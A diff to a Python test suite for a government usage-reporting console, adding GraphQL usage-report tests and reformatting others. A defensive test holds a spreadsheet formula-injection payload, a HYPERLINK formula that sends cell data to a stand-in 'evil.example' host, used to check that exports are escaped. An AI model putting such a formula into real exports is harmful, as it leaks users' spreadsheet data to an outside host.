@@ -9,6 +9,7 @@ import contextlib
 import csv
 import html
 import io
+import json
 import re
 from datetime import UTC, date, datetime
 from xml.etree import ElementTree
@@ -294,7 +295,10 @@ async def test_the_office_sees_every_departments_resources_with_charts_and_table
     assert figures_of(resources, named(api, "resource", "police.person")) == POLICE_TOTAL
     assert figures_of(resources, named(api, "resource", "market.enterprise")).accesses == 2
     for name in usage.TABLES:  # every table with its chart and both exports
-        assert f'src="/console/usage/chart.svg?from=2026-11-25&amp;to=2026-12-01&amp;granularity=day&amp;table={name}' in page.text
+        assert (
+            f'src="/console/usage/chart.svg?from=2026-11-25&amp;to=2026-12-01&amp;granularity=day&amp;table={name}'
+            in page.text
+        )
         assert f'id="export-{name}-csv"' in page.text and f'id="export-{name}-xlsx"' in page.text
     departments = html_table(page.text, "departments")
     assert figures_of(departments, named(api, "department", "land")).accesses == 1  # land read market.enterprise only
@@ -333,7 +337,12 @@ async def test_no_filter_chart_or_export_url_shows_another_departments_figures(c
     api, grants, browsers = console
     catalog = api.app.state.runtime.catalog
     hidden = (catalog.resources["market.enterprise"].name, catalog.departments["land"].name, "NO_GRANT", "<svg")
-    for path in ("/console/usage", "/console/usage/chart.svg", "/console/usage/export.csv", "/console/usage/export.xlsx"):
+    for path in (
+        "/console/usage",
+        "/console/usage/chart.svg",
+        "/console/usage/export.csv",
+        "/console/usage/export.xlsx",
+    ):
         for attack in ATTACKS:
             answer = await browsers["police.staff"].client.get(f"{path}?{PERIOD}&table=resources&{attack}")
             assert (answer.status_code, "USAGE_NOT_YOURS" in answer.text) == (403, True), (path, attack)
@@ -343,7 +352,11 @@ async def test_no_filter_chart_or_export_url_shows_another_departments_figures(c
 async def test_signed_out_or_unknown_questions_are_refused(console):
     api, grants, browsers = console
     async with httpx.AsyncClient(transport=httpx.ASGITransport(app=api.app), base_url=ORIGIN) as anonymous:
-        for path in ("/console/usage", "/console/usage/chart.svg?table=resources", "/console/usage/export.csv?table=resources"):
+        for path in (
+            "/console/usage",
+            "/console/usage/chart.svg?table=resources",
+            "/console/usage/export.csv?table=resources",
+        ):
             answer = await anonymous.get(path)
             assert answer.status_code == 303 and answer.headers["location"] == "/console/login"
     office = browsers["office"].client
@@ -405,8 +418,17 @@ async def test_texts_that_would_start_a_formula_are_exported_escaped(console):
     runtime = api.app.state.runtime
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     record = AccessRecord(
-        at=TUESDAY, request_id="r-hostile", trace_id="0" * 32, department="market", application="a", key_id="k",
-        operator=None, purpose=hostile, resource="police.person", operation="list", outcome="denied",
+        at=TUESDAY,
+        request_id="r-hostile",
+        trace_id="0" * 32,
+        department="market",
+        application="a",
+        key_id="k",
+        operator=None,
+        purpose=hostile,
+        resource="police.person",
+        operation="list",
+        outcome="denied",
         error_code="@SUM(1)",
     )
     await runtime.audit.write([record])
@@ -427,3 +449,80 @@ def test_a_formula_start_is_escaped_and_nothing_else_changes():
         assert exports.safe(text_) == "'" + text_
     for kept in ("1", "a=b", "人口", 5, -3):
         assert exports.safe(kept) == kept
+
+
+# --- GraphQL: usageReport -----------------------------------------------------------------------------------
+
+REPORT = """query($provider: String, $resource: String, $granularity: String!) {
+  usageReport(provider: $provider, resource: $resource, from: "2026-11-25", to: "2026-12-01", granularity: $granularity) {
+    provider first last granularity
+    resources { resource ...F } trend { period ...F } departments { department ...F } purposes { purpose ...F }
+    grants { grant ...F } refusals { outcome errorCode ...F } deniedItems { item reason ...F } } }
+fragment F on UsageRow { accesses rows values allowed partial denied failed itemsDenied masked itemsMasked }"""
+
+
+def graphql_figures(row: dict) -> Figures:
+    names = {"itemsDenied": "items_denied", "itemsMasked": "items_masked"}
+    return Figures(**{names.get(k, k): v for k, v in row.items() if k in usage.FIGURES or k in names})
+
+
+async def report(api, department: str, **variables) -> dict:
+    return await api.query(REPORT, department, None, variables={"granularity": "day", **variables})
+
+
+async def test_usage_report_over_graphql_gives_the_same_figures(used):
+    api, grants = used
+    answer = await report(api, "police", granularity="week")
+    assert "errors" not in answer, answer
+    found = answer["data"]["usageReport"]
+    assert (found["provider"], found["first"], found["last"], found["granularity"]) == (
+        "police", "2026-11-25", "2026-12-01", "week"
+    )
+    catalog = api.app.state.runtime.catalog
+    own = sorted(code for code, r in catalog.resources.items() if r.provider == "police")
+    assert len(own) > 1  # every one of police's resources is there, those unused as zeros
+    assert {r["resource"]: graphql_figures(r) for r in found["resources"]} == {
+        code: POLICE_TOTAL if code == "police.person" else Figures() for code in own
+    }
+    assert [(r["period"], graphql_figures(r)) for r in found["trend"]] == [
+        ("2026-11-23", MARKET_PERSON + MARKET_FOOD),
+        ("2026-11-30", HRSS_LIST + HRSS_REFUSED + CIVIL_LIST + MARKET_LINK),
+    ]
+    assert {r["department"]: graphql_figures(r) for r in found["departments"]} == {
+        "market": MARKET_PERSON + MARKET_FOOD + MARKET_LINK, "hrss": HRSS_LIST + HRSS_REFUSED, "civil": CIVIL_LIST
+    }
+    assert [r["purpose"] for r in found["purposes"]] == [LICENCE, ENROLMENT, MARRIAGE, FOOD]
+    assert {r["grant"]: graphql_figures(r) for r in found["grants"]} == {
+        grants["market"]: MARKET_PERSON + MARKET_LINK, grants["hrss"]: HRSS_LIST,
+        None: MARKET_FOOD + HRSS_REFUSED + CIVIL_LIST,
+    }
+    assert {(r["outcome"], r["errorCode"]) for r in found["refusals"]} == {
+        ("denied", "PURPOSE_NOT_APPROVED"), ("denied", "OUT_OF_SCOPE")
+    }
+    assert {(r["item"], r["reason"]): r["accesses"] for r in found["deniedItems"]} == {
+        ("phone", "NOT_SHARED"): 2, ("idNumber", "GRANT_EXPIRED"): 1, ("name", "GRANT_EXPIRED"): 1
+    }
+
+
+async def test_usage_report_shows_a_department_its_own_resources_and_overseers_everything(used):
+    api, grants = used
+    catalog = api.app.state.runtime.catalog
+    market = (await report(api, "market"))["data"]["usageReport"]
+    assert {r["resource"] for r in market["resources"] if r["accesses"]} == {"market.enterprise"}
+    assert {r["resource"] for r in market["resources"]} <= {c for c, r in catalog.resources.items() if r.provider == "market"}
+    assert {r["department"] for r in market["departments"]} == {"land", "market"}
+    for variables in ({"provider": "police"}, {"resource": "police.person"}, {"provider": "market", "resource": "police.person"}):
+        refused = await report(api, "market", **variables)
+        assert refused["data"] is None and refused["errors"][0]["extensions"]["code"] == "USAGE_NOT_YOURS", variables
+        assert not any(figure in json.dumps(refused) for figure in ("OUT_OF_SCOPE", "hrss", grants["hrss"]))
+    assert not any(r["accesses"] for r in (await report(api, "hrss"))["data"]["usageReport"]["resources"])
+    everything = (await report(api, "bigdata"))["data"]["usageReport"]  # coordinator and auditor
+    assert everything["provider"] is None
+    assert {r["resource"]: graphql_figures(r) for r in everything["resources"]}["police.person"] == POLICE_TOTAL
+    assert {r["resource"] for r in everything["resources"] if r["accesses"]} == {"police.person", "market.enterprise"}
+    one = (await report(api, "bigdata", provider="market"))["data"]["usageReport"]
+    assert one["resources"] == market["resources"]
+    unknown = await report(api, "bigdata", provider="nobody")
+    assert unknown["errors"][0]["extensions"]["code"] == "USAGE_PROVIDER_UNKNOWN"
+    bad = await api.query(REPORT.replace('"2026-11-25"', '"2026-12-25"'), "police", None, variables={"granularity": "day"})
+    assert bad["errors"][0]["extensions"]["code"] == "USAGE_BAD_PERIOD"
